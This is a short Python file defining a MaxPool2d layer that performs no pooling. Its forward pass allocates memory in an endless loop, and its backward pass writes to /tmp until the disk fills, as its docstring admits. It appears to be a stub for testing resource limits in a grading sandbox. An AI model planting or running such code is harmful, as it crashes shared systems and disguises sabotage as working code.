"""All the memory that there is, then a file that fills the disk."""

from __future__ import annotations

import numpy as np
from given.module import Array, Module


class MaxPool2d(Module):
    def __init__(self, kernel_size, stride=None, padding=0) -> None:
        self.hoard = [np.ones(1 << 27)]

    def forward(self, x: Array) -> Array:
        while True:
            self.hoard.append(np.ones(1 << 27))

    def backward(self, grad_out: Array) -> Array:
        with open("/tmp/rest", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
